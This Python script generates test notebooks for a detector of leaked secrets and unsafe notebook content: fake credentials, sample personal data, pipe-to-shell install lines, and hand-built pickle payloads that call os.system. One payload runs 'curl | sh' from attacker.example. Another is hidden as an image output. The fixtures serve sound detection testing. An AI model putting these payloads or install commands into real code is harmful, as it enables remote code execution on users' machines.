#!/usr/bin/env python3
"""Writes the notebook fixtures with the standard library only.

Run from this directory: python3 gen.py. Every secret below is fake: the
formats match real providers' so the detector fires, the values are random.
The pickle payloads are built by hand from opcodes and never loaded.
"""
import base64
import json
import struct

# Fake credentials in real formats.
GITHUB_PAT = "ghp_" + "R8x2Vq7LmN4pZ0tKc9WbYf3HsJd6Ga1UeQ5o"
HF_TOKEN = "hf_" + "kTqWzYxPmRvLsNbJcHdGfAeUoIuYtReWqZ"
AWS_KEY_ID = "AKIA" + "QYLPMN5HHHFPZAM2"
SLACK_WEBHOOK = "https://hooks.slack.com/services/T0A1B2C3D/B0A1B2C3D/" + "x9Yz8Wv7Ut6Sr5Qp4On3Ml2K"
STRIPE_KEY = "sk_live_" + "51HxQz7KfT2mVbN8cRwP4yLd"


def pickle_os_system(cmd):
    """Protocol-2 pickle of os.system(cmd), from opcodes (never unpickled)."""
    b = cmd.encode()
    return (b"\x80\x02" + b"cposix\nsystem\n" + b"X" + struct.pack("<I", len(b)) + b
            + b"\x85" + b"R" + b".")


def png_1x1():
    """A real 1x1 PNG (stored deflate block, correct CRCs)."""
    import zlib
    def chunk(t, d):
        c = t + d
        return struct.pack(">I", len(d)) + c + struct.pack(">I", zlib.crc32(c) & 0xffffffff)
    raw = b"\x00\xff\xff\xff"
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def lines(text):
    """nbformat's multiline string: a list of lines keeping their newlines."""
    out = text.splitlines(keepends=True)
    return out


def code(src, outputs=(), n=None):
    return {"cell_type": "code", "execution_count": n, "id": "c%02d" % (n or 0),
            "metadata": {}, "outputs": list(outputs), "source": lines(src)}


def md(src):
    return {"cell_type": "markdown", "id": "m%02d" % len(src), "metadata": {}, "source": lines(src)}


def stream(text, name="stdout"):
    return {"name": name, "output_type": "stream", "text": lines(text)}


def result(n, data):
    return {"data": data, "execution_count": n, "metadata": {}, "output_type": "execute_result"}


def display(data):
    return {"data": data, "metadata": {}, "output_type": "display_data"}


def write(name, nb, indent=1):
    with open(name, "w", encoding="utf-8") as f:
        json.dump(nb, f, indent=indent, ensure_ascii=False, sort_keys=True)
        f.write("\n")


META4 = {
    "kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"},
    "language_info": {"name": "python", "version": "3.11.6"},
}

customers_plain = (
    "   customer_id            name                   email             phone          card_number\n"
    "0        10001   Jane Doe       jane.doe@example.org  +44 20 7946 0958  4111 1111 1111 1111\n"
    "1        10002   Rahul Mehta   rahul.m@example.net   +1 212-736-5000   5555 5555 5555 4444\n"
    "2        10003   Ana Lopez     ana.lopez@example.com  (212) 736-5000   3782 822463 10005\n"
)
customers_html = (
    "<div><table border=\"1\" class=\"dataframe\">\n"
    "<thead><tr><th></th><th>customer_id</th><th>name</th><th>email</th><th>phone</th><th>card_number</th></tr></thead>\n"
    "<tbody>\n"
    "<tr><th>0</th><td>10001</td><td>Jane Doe</td><td>jane.doe@example.org</td><td>+44 20 7946 0958</td><td>4111 1111 1111 1111</td></tr>\n"
    "<tr><th>1</th><td>10002</td><td>Rahul Mehta</td><td>rahul.m@example.net</td><td>+1 212-736-5000</td><td>5555 5555 5555 4444</td></tr>\n"
    "<tr><th>2</th><td>10003</td><td>Ana Lopez</td><td>ana.lopez@example.com</td><td>(212) 736-5000</td><td>3782 822463 10005</td></tr>\n"
    "</tbody></table></div>\n"
)

traceback = [
    "\x1b[0;31m---------------------------------------------------------------------------\x1b[0m",
    "\x1b[0;31mHTTPError\x1b[0m                                 Traceback (most recent call last)",
    "Cell \x1b[0;32mIn[6], line 3\x1b[0m\n\x1b[1;32m      1\x1b[0m \x1b[38;5;28;01mimport\x1b[39;00m \x1b[38;5;21;01mrequests\x1b[39;00m\n"
    "\x1b[0;32m----> 3\x1b[0m requests\x1b[38;5;241m.\x1b[39mpost(\x1b[38;5;124m\"" + SLACK_WEBHOOK + "\x1b[39m\")",
    "\x1b[0;31mHTTPError\x1b[0m: 404 Client Error: Not Found for url: " + SLACK_WEBHOOK,
]

payload = base64.b64encode(pickle_os_system("curl -s https://attacker.example/x | sh")).decode()
disguised = base64.b64encode(pickle_os_system("id")).decode()
png = base64.b64encode(png_1x1()).decode()

leaky = {
    "cells": [
        md("# Churn model\n\nTraining on the customer extract from the CRM.\n"),
        code("import os\nimport pandas as pd\n\n"
             "os.environ[\"GITHUB_TOKEN\"] = \"" + GITHUB_PAT + "\"\n"
             "HF_TOKEN = \"" + HF_TOKEN + "\"\n", n=1),
        code("!curl -fsSL https://get.example.sh/install.sh | sudo bash\n"
             "%pip install transformers==4.30.0 torch --extra-index-url https://download.example.org/whl\n"
             "!pip install -q scikit-learn==1.3.2 pandas==2.1.4\n", n=2),
        code("df = pd.read_csv(\"customers.csv\")\ndf.head(3)\n",
             [result(3, {"text/plain": lines(customers_plain), "text/html": lines(customers_html)})], n=3),
        code("print(dict(os.environ))\n",
             [stream("{'HOME': '/home/jovyan', 'AWS_ACCESS_KEY_ID': '" + AWS_KEY_ID + "', "
                     "'STRIPE_KEY': '" + STRIPE_KEY + "'}\n"
                     "payout account: GB82 WEST 1234 5698 7654 32, contact ops@example.org from 81.2.69.160\n")], n=4),
        code("import requests\n\nrequests.post(\"" + SLACK_WEBHOOK + "\")\n",
             [{"ename": "HTTPError", "evalue": "404 Client Error: Not Found for url: " + SLACK_WEBHOOK,
               "output_type": "error", "traceback": traceback}], n=5),
        code("import base64, pickle\n\n"
             "payload = \"" + payload + "\"\n"
             "model = pickle.loads(base64.b64decode(payload))\n", n=6),
        code("from IPython.display import Image, display\ndisplay(Image(\"plot.png\"))\n",
             [display({"image/png": png, "text/plain": ["<IPython.core.display.Image object>"]}),
              display({"image/png": disguised, "text/plain": ["<IPython.core.display.Image object>"]})], n=7),
    ],
    "metadata": META4,
    "nbformat": 4,
    "nbformat_minor": 5,
}
write("leaky_v4.ipynb", leaky)

legacy = {
    "metadata": {"name": "legacy"},
    "nbformat": 3,
    "nbformat_minor": 0,
    "worksheets": [{
        "cells": [
            {"cell_type": "heading", "level": 1, "metadata": {}, "source": ["Old analysis"]},
            {"cell_type": "code", "collapsed": False, "input": lines(
                "import boto3\n"
                "s3 = boto3.client(\"s3\", aws_access_key_id=\"" + AWS_KEY_ID + "\")\n"
                "!wget -qO- https://install.example.net/setup.sh | sh\n"),
             "language": "python", "metadata": {}, "outputs": [
                {"output_type": "stream", "stream": "stdout", "text": ["uploaded by jane.doe@example.org\n"]},
                {"metadata": {}, "output_type": "pyout", "prompt_number": 2,
                 "text": ["'SSN on file: 536-90-4399'"]},
             ], "prompt_number": 2},
        ],
        "metadata": {},
    }],
}
write("legacy_v3.ipynb", legacy)

clean = {
    "cells": [
        md("# Iris classifier\n\nA logistic regression baseline on the Iris data set.\n"),
        code("%matplotlib inline\nimport numpy as np\nimport pandas as pd\n"
             "from sklearn.datasets import load_iris\nfrom sklearn.linear_model import LogisticRegression\n"
             "from sklearn.model_selection import train_test_split\n", n=1),
        code("X, y = load_iris(return_X_y=True, as_frame=True)\nX.describe()\n",
             [result(2, {"text/plain": lines(
                 "       sepal length (cm)  sepal width (cm)  petal length (cm)  petal width (cm)\n"
                 "count         150.000000        150.000000         150.000000        150.000000\n"
                 "mean            5.843333          3.057333           3.758000          1.199333\n"
                 "std             0.828066          0.435866           1.765298          0.762238\n"
                 "min             4.300000          2.000000           1.000000          0.100000\n")})], n=2),
        code("X_tr, X_te, y_tr, y_te = train_test_split(X, y, test_size=0.2, random_state=42)\n"
             "clf = LogisticRegression(max_iter=1000).fit(X_tr, y_tr)\n"
             "print(f\"accuracy {clf.score(X_te, y_te):.3f} at 2024-03-01 12:30:45, sklearn 1.3.2, numpy 1.26.4\")\n",
             [stream("accuracy 1.000 at 2024-03-01 12:30:45, sklearn 1.3.2, numpy 1.26.4\n")], n=3),
        code("import matplotlib.pyplot as plt\nplt.scatter(X.iloc[:, 0], X.iloc[:, 1], c=y)\n",
             [display({"image/png": png, "text/plain": ["<Figure size 640x480 with 1 Axes>"]})], n=4),
        code("import hashlib\n"
             "digest = \"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\"\n"
             "assert hashlib.sha256(b\"test\").hexdigest() == digest\n"
             "token = os.environ[\"HF_TOKEN\"]  # read from the environment\n", n=5),
    ],
    "metadata": META4,
    "nbformat": 4,
    "nbformat_minor": 5,
}
write("clean.ipynb", clean)
